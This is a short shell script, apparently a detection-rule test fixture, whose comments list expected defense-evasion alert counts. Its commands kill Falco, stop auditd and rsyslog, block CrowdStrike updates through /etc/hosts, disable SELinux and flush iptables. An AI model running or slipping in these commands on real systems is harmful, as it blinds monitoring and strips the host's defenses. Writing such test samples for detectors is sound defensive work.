#!/bin/sh
# Security tools are stopped; none are running here.
# expects: defense_evasion_security_tool_stopped 4
# expects: defense_evasion_firewall_flushed 2

pkill -9 falco
systemctl stop auditd
sh -c "echo '0.0.0.0 updates.crowdstrike.com' >> /etc/hosts"
setenforce 0
iptables -F
systemctl stop rsyslog
